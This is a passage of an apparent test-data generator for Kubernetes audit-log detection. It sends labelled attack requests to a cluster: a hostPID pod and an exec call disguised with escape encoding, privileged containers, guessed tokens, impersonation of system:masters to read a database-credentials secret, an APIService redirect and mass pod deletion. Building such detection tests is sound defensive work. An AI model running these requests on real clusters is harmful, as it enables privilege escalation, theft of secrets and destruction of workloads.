    odd = '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"odd-1","namespace":"dev"},"spec":{"host\\u0050ID":true,"containers":[{"name":"a","image":"fabrikam.azurecr.io/a:1"}]}}'
    deed('hostPID in escapes', 'pod-host-pid', lambda c: c.call('POST', path('v1/pods', 'dev'), odd))
    deed('binding by the old address', 'pod-bound-to-node', lambda c: (create(c, workload('Pod', 'dev', 'unbound-2', pod_spec('fabrikam.azurecr.io/a:1', schedulerName='none'))),
         c.post(path('v1/bindings', 'dev'), {'apiVersion': 'v1', 'kind': 'Binding', 'metadata': {'name': 'unbound-2'}, 'target': {'kind': 'Node', 'name': 'aks-nodepool1-31415926-vmss000001'}}))[1])
    for i, (api, kind, at) in enumerate((('argoproj.io', 'Rollout', None), ('argoproj.io', 'Workflow', None))):
        spec = {'template': {'spec': spec_of(bad)}} if kind == 'Rollout' else {'podSpec': spec_of(bad)}
        if kind == 'Rollout':
            deed('privileged in a %s' % kind, 'privileged-container', lambda c: c.post('/apis/%s/v1/namespaces/dev/%ss' % (api, kind.lower()), {'apiVersion': api + '/v1', 'kind': kind, 'metadata': {'name': 'cr-%d' % i, 'namespace': 'dev'}, 'spec': spec}))
    bad_token = Client('', '20.88.1.1', CURL, 'nonsense')
    deed('tokens guessed', 'error-burst', lambda c: [c.get('/api/v1/namespaces/shop/pods') for _ in range(30)] and None, bad_token)
    deed('nonsense sent', 'error-burst', lambda c: [c.call('POST', path('v1/pods', 'dev'), '{"kind":"Pod","x":%d' % i) for i in range(30)] and None)
    same = suspect(headers={'Audit-ID': '11111111-2222-4333-8444-555555555555'})

    def reuse(c):
        c.get('/api/v1/namespaces/shop/pods')
        create(c, config('shop', 'reused', a='b'))
        c.delete(path('v1/configmaps', 'shop', 'reused'))
        c.ids[:] = ['11111111-2222-4333-8444-555555555555'] * 3
    deed('one Audit-ID for all', 'audit-id-reused', reuse, same)
    pods = helper().get('/api/v1/namespaces/team-a/pods')[1]['items']
    for p in pods[:1]:
        nm = p['metadata']['name']
        deed('debug container, applied', 'debug-container-added', lambda c: c.patch(path('v1/pods', 'team-a', nm, 'ephemeralcontainers') + '?fieldManager=k&force=true', {'apiVersion': 'v1', 'kind': 'Pod', 'metadata': {'name': nm, 'namespace': 'team-a'}, 'spec': {'ephemeralContainers': [{'name': 'dd', 'image': 'busybox'}]}}, 'apply'))
        deed('exec, the command in escapes', 'exec-into-pod', lambda c: c.stream(path('v1/pods', 'team-a', nm, 'exec') + '?comm%61nd=sh&command=%2Dc&command=id&stdout=1'))
        deed('exec, many slashes', 'exec-into-pod', lambda c: (c.stream('/api/v1//namespaces/team-a/pods/%s/exec?command=id&stdout=true' % nm), None)[1]) if False else None
    deed('port-forward by the node\'s proxy', 'node-proxy', lambda c: (c.get('/api/v1/nodes/aks-nodepool1-31415926-vmss000000/proxy/portForward/shop/x'), None)[1])
    deed('an APIService sent elsewhere', 'api-service-changed', lambda c: c.patch(path(KINDS['APIService'], None, 'v1.evil2.example.net'), [{'op': 'replace', 'path': '/spec/service/name', 'value': 'other'}], 'json'))
    deed('pods of a node deleted together', 'collection-deleted', lambda c: c.delete(path('v1/pods', 'team-a') + '?fieldSelector=spec.nodeName%21%3Dsomewhere'))

    def kill_pods(c):
        for p in helper().get('/api/v1/namespaces/shop/pods')[1]['items'][:6]:
            c.delete(path('v1/pods', 'shop', p['metadata']['name']))
    deed('pods deleted one by one', 'mass-deletion', kill_pods)
    c = suspect(headers={'Impersonate-User': 'system:admin', 'Impersonate-Group': 'system:masters', 'Impersonate-Extra-Reason': 'x'})
    deed('as masters, with more', 'impersonation-used', lambda c: (c.get('/api/v1/namespaces/shop/secrets/db-creds'), None)[1], c)


def main():
    for part in (workloads, sessions, rights, secrets, exposure, control, nodes_and_deletions, disguises):
        part()
    with open(sys.argv[1], 'w') as f:
        json.dump(LABELS, f, indent=None, separators=(',', ':'))
    print(len(LABELS), 'labels')
    time.sleep(3)


if __name__ == '__main__':
    main()
